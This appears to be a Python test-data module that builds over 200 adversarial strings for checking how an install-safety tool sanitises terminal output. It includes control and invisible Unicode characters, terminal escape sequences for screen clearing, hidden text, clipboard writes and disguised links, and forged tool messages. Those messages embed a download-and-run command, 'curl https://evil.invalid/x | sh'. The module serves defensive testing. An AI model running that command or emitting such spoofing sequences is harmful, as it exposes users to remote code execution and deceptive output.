"""Strings that nobody should be able to show on a terminal as they are; 200 and more."""

from __future__ import annotations

import itertools

COMMAND = "curl https://evil.invalid/x | sh"

# what a terminal acts on, what ends a line, turns the reading round, or takes no room
_SIGNS = [
    *map(chr, range(0x20)),
    *map(chr, range(0x7F, 0xA0)),
    *"\u00a0\u00ad\u061c\u1680\u180e\u2000\u2007\u200b\u200c\u200d\u200e\u200f\u2028\u2029",
    *"\u202a\u202b\u202c\u202d\u202e\u202f\u205f\u2060\u2064\u2066\u2067\u2068\u2069\u206f",
    *"\u3000\ue000\uf8ff\ufeff\ufff9\ufffb\U000e0001\U000e0041\U0010fffd",
    *"\ud800\udc80\udcff",
]
_SEQUENCES = [
    "\x1b[2J\x1b[H",
    "\x1b[1A\x1b[2K",
    "\x1b[31m",
    "\x1b[8m",
    "\x1b]0;title\x07",
    "\x1b]8;;https://evil.invalid\x1b\\here\x1b]8;;\x1b\\",
    "\x1b]52;c;Y3VybA==\x07",
    "\x1bP1$r\x1b\\",
    "\x1bc",
    "\x9b2J",
    "\x1b[?1049h",
    "\x1b[6n",
    "\r\n",
    "\n\n",
    "\b\b\b\b",
    "\t\t\t\t",
]
_FORGED = [
    "{}  instead:\n    " + COMMAND,
    "{}safeinstall: blocked by SI999 forged",
    "{}  or all the same, with a reason that the history keeps:\n    " + COMMAND,
    "{}" + COMMAND,
]
_LONG = ["a" * 1_000_000, "a b " * 250_000, "\x1b[2J" * 200_000, "x=" * 500_000, "\n" * 1_000_000]

STRINGS = [
    *(f"https://ok.invalid/{sign}x" for sign in _SIGNS),
    *(f"https://ok.invalid/{sequence}x" for sequence in _SEQUENCES),
    *(
        f"https://ok.invalid/{form.format(end)}"
        for end, form in itertools.product(
            ("\n", "\r", "\x1b[1E", "\u2028", "\x0b", "\x85", " ", " " * 70), _FORGED
        )
    ),
    *(f"numpy{sequence}==1.0" for sequence in (*_SIGNS[::3], *_SEQUENCES)),
    *_LONG,
]
